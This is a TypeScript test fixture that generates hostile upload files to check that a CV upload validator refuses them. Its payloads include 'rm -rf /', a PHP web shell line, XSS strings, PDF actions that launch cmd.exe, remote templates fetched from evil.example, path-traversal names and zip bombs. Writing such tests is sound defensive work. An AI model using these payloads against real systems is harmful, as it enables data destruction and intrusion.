import fc from 'fast-check'
import type { FileRefusal } from '../../../rules/documents/refusal.ts'
import {
  app,
  chunk,
  comment,
  sampleDocx,
  sampleJpeg,
  sampleOdt,
  samplePdf,
  samplePng,
  textParts,
  wordParts,
  wordTypes,
  zip,
} from './sample-files.ts'

/** A file nobody should get in with: what it is, its name, its bytes, and as what it may be refused. */
export type Hostile = { what: string; name: string; bytes: Buffer; as: readonly FileRefusal[] }

export const megabytes10 = 10 * 1024 * 1024
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const program = Buffer.concat([
  Buffer.from('MZ\x90\0\x03', 'latin1'),
  Buffer.alloc(200),
  Buffer.from('This program cannot be run in DOS mode.'),
])
const whole = { 'cv.pdf': samplePdf(), 'cv.docx': sampleDocx(), 'cv.odt': sampleOdt(), 'cv.jpg': sampleJpeg(), 'cv.png': samplePng() }
const extensions = ['pdf', 'docx', 'odt', 'jpg', 'png']
const row = (what: string, name: string, bytes: Buffer | string, ...as: FileRefusal[]): Hostile => ({
  what,
  name,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
  as,
})

/** What the file is does not follow from what it is called. */
const wrongTypes: [string, Buffer | string][] = [
  ['a program', program],
  ['a Linux program', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
  ['a script', '#!/bin/sh\nrm -rf /\n'],
  ['a page', '<!doctype html><script>alert(1)</script>'],
  ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['a text', 'Mijn cv is heel lang.'],
  ['a gif', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')],
  ['a zip', zip({ 'cv.txt': 'cv' })],
  [
    'a sheet',
    zip({ '[Content_Types].xml': wordTypes().replace('wordprocessingml.document', 'spreadsheetml.sheet'), 'xl/workbook.xml': '<x/>' }),
  ],
  ['a sheet of LibreOffice', zip({ ...textParts(), mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }, ['mimetype'])],
  ['an old Word document', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])],
  ['a RAR archive', Buffer.from('Rar!\x1a\x07\x00', 'latin1')],
  ['an e-book', zip({ mimetype: 'application/epub+zip', 'OEBPS/x.opf': 'x' }, ['mimetype'])],
  ['noise', Buffer.from(Array.from({ length: 997 }, (_, index) => (index * 7919 + 13) % 251))],
]
const renamed = wrongTypes.flatMap(([what, bytes]) =>
  extensions.map((extension) => row(`${what} called ${extension}`, `cv.${extension}`, bytes, 'wrong-type')),
)

const cut = Object.entries(whole).flatMap(([name, bytes]) =>
  fc
    .sample(fc.integer({ min: 1, max: bytes.length - 2 }), { numRuns: 12, seed: 20261122 })
    .map((at) => row(`${name} cut off after ${at} bytes`, name, bytes.subarray(0, at), 'broken', 'wrong-type', 'two-in-one')),
)

const withTestVirus = [
  row('the test virus as a text', 'cv.pdf', eicar, 'malware'),
  row('the test virus in a pdf', 'cv.pdf', samplePdf({ text: eicar.replaceAll('\\', '') }), 'malware'),
  row('the test virus in a comment', 'cv.jpg', sampleJpeg(comment(eicar)), 'malware'),
  row('the test virus in a png', 'cv.png', samplePng([chunk('tEXt', Buffer.from(`a\0${eicar}`))]), 'malware'),
  row('the test virus packed in Word', 'cv.docx', sampleDocx({ 'word/x.txt': eicar.repeat(20) }), 'malware'),
  row('the test virus packed in odt', 'cv.odt', sampleOdt({ 'x.txt': eicar.repeat(20) }), 'malware'),
]

const polyglots = [
  ...Object.entries(whole).map(([name, bytes]) =>
    row(`a zip behind ${name}`, name, Buffer.concat([bytes, zip({ 'a.txt': 'b' })]), 'two-in-one', 'wrong-type'),
  ),
  ...['cv.pdf', 'cv.jpg', 'cv.png'].map((name) =>
    row(
      `a page behind ${name}`,
      name,
      Buffer.concat([whole[name as keyof typeof whole], Buffer.from('<html><script>x</script>')]),
      'two-in-one',
    ),
  ),
  ...Object.entries(whole).map(([name, bytes]) =>
    row(`a page before ${name}`, name, Buffer.concat([Buffer.from('<html>'), bytes]), 'wrong-type'),
  ),
  ...['cv.docx', 'cv.odt'].map((name) =>
    row(`bytes before ${name}`, name, Buffer.concat([Buffer.from('PK  '), whole[name as 'cv.docx']]), 'broken', 'two-in-one'),
  ),
]

const flat = { 'word/media/zeroes.bin': new Uint8Array(70 * 1024 * 1024) }
const nested = zip({ 'a.zip': zip({ 'b.zip': zip({ zeroes: new Uint8Array(5_000_000) }) }) })
const lying = (() => {
  const bytes = Buffer.from(sampleDocx({ 'word/media/a.bin': new Uint8Array(3_000_000) }))
  const directory = bytes.lastIndexOf(Buffer.from('word/media/a.bin')) - 46
  bytes.writeUInt32LE(10, directory + 24)
  return bytes
})()
const bombs = [
  row('70 MB of nothing in Word', 'cv.docx', zip({ ...wordParts(), ...flat }), 'bomb'),
  row('70 MB of nothing in odt', 'cv.odt', sampleOdt(flat), 'bomb'),
  row('a packed file in a packed file', 'cv.docx', sampleDocx({ 'word/nested.bin': nested }), 'bomb'),
  row('a packed file called a chart', 'cv.docx', sampleDocx({ 'word/embeddings/a.xlsx': nested }), 'bomb'),
  row('2,001 files', 'cv.docx', sampleDocx(Object.fromEntries(Array.from({ length: 2001 }, (_, index) => [`a${index}`, '']))), 'bomb'),
  row('a file larger than it says', 'cv.docx', lying, 'broken'),
  row('a png of 4 billion pixels', 'cv.png', samplePng([], { width: 65_535, height: 65_535 }), 'bomb'),
]

const encrypted = (bytes: Buffer) => {
  const locked = Buffer.from(bytes)
  for (let at = locked.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = locked.indexOf('PK\x01\x02', at + 1, 'latin1'))
    locked.writeUInt16LE(1, at + 8)
  return locked
}
const locked = [
  row(
    'Word with a password',
    'cv.docx',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(500), Buffer.from('EncryptedPackage', 'utf16le')]),
    'locked',
  ),
  row('a docx as an encrypted zip', 'cv.docx', encrypted(sampleDocx()), 'locked'),
  row('an odt as an encrypted zip', 'cv.odt', encrypted(sampleOdt()), 'locked'),
  row('an odt with a password', 'cv.odt', sampleOdt({ 'META-INF/manifest.xml': '<manifest:encryption-data/>' }), 'locked'),
  row('a pdf with a password', 'cv.pdf', samplePdf({ trailer: '/Encrypt 9 0 R' }), 'locked'),
]

const rels = (target: string) =>
  `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`
const active = [
  row('macros in Word', 'cv.docx', sampleDocx({ 'word/vbaProject.bin': 'x' }), 'macros'),
  row(
    'a document with macros by its type',
    'cv.docx',
    sampleDocx({ '[Content_Types].xml': wordTypes().replace('document.main', 'document.macroEnabled.main') }),
    'macros',
    'wrong-type',
  ),
  row('macros in odt', 'cv.odt', sampleOdt({ 'Basic/Standard/Module1.xml': '<x/>' }), 'macros'),
  row('a Python script in odt', 'cv.odt', sampleOdt({ 'Scripts/python/a.py': 'x' }), 'macros'),
  row('a program in Word', 'cv.docx', sampleDocx({ 'word/embeddings/a.bin': program }), 'active'),
  row('an object in Word', 'cv.docx', sampleDocx({ 'word/embeddings/oleObject1.bin': 'x' }), 'active'),
  row('a control in Word', 'cv.docx', sampleDocx({ 'word/activeX/activeX1.xml': 'x' }), 'active'),
  row(
    'a template from another computer',
    'cv.docx',
    sampleDocx({ 'word/_rels/settings.xml.rels': rels('https://evil.example/a.dotm') }),
    'active',
  ),
  row('a template from a share', 'cv.docx', sampleDocx({ 'word/_rels/settings.xml.rels': rels('\\\\evil\\a.dotm') }), 'active'),
  row('a script in a pdf', 'cv.pdf', samplePdf({ extra: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }), 'active'),
  row('a hidden script in a pdf', 'cv.pdf', samplePdf({ extra: '/OpenAction << /S /J#61vaScript /JS 9 0 R >>' }), 'active'),
  row('a program started by a pdf', 'cv.pdf', samplePdf({ extra: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'active'),
  ...['<script>alert(1)</script>', '<?php system($_GET[0]); ?>', '<svg onload=alert(1)>', 'javascript:alert(1)'].flatMap((text) => [
    row(`${text} in a comment`, 'cv.jpg', sampleJpeg(comment(text)), 'active'),
    row(`${text} in EXIF`, 'cv.jpg', sampleJpeg(app(1, Buffer.from(`Exif\0\0${text}`))), 'active'),
    row(`${text} in a png`, 'cv.png', samplePng([chunk('tEXt', Buffer.from(`Comment\0${text}`))]), 'active'),
  ]),
]

const names = [
  '../../etc/cv.pdf',
  '..\\..\\cv.pdf',
  '/etc/passwd.pdf',
  'C:\\Windows\\cv.pdf',
  'map/cv.pdf',
  '..',
  'cv\0.pdf',
  '\uff0f\uff0fetc\uff0fcv.pdf',
]
const paths = [
  ...names.map((name) => row(`a name with a path: ${JSON.stringify(name)}`, name, samplePdf(), 'name')),
  ...['../evil.xml', '/etc/passwd', 'C:\\evil.dll', 'word\\..\\..\\evil', 'word/../../evil'].map((name) =>
    row(`a path in Word: ${name}`, 'cv.docx', sampleDocx({ [name]: 'x' }), 'name'),
  ),
]

const sizes = [
  ...extensions.map((extension) => row(`nothing called ${extension}`, `cv.${extension}`, '', 'empty')),
  row('10 MB and a byte of pdf', 'cv.pdf', samplePdf({ size: megabytes10 }), 'too-big'),
  row('10 MB and a byte of nothing', 'cv.png', Buffer.alloc(megabytes10 + 1), 'too-big'),
]

/** More than two hundred, the same every time. */
export const hostileFiles: readonly Hostile[] = [
  ...renamed,
  ...cut,
  ...withTestVirus,
  ...polyglots,
  ...bombs,
  ...locked,
  ...active,
  ...paths,
  ...sizes,
]
